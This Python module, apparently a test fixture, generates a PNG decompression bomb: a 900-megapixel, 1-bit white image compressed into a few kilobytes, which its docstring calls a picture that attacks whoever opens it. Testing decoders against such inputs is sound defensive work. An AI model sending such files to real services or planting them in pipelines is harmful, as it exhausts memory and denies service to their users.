"""Pictures that attack whoever opens them."""

from __future__ import annotations

import struct
import zlib
from functools import cache


@cache
def huge_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """A white picture in black and white: 900 megapixels in some kilobytes."""
    pixels = zlib.compress((b"\0" + b"\xff" * ((width + 7) // 8)) * height, 9)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    parts = ((b"IHDR", header), (b"IDAT", pixels), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_png_chunk(kind, body) for kind, body in parts)


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
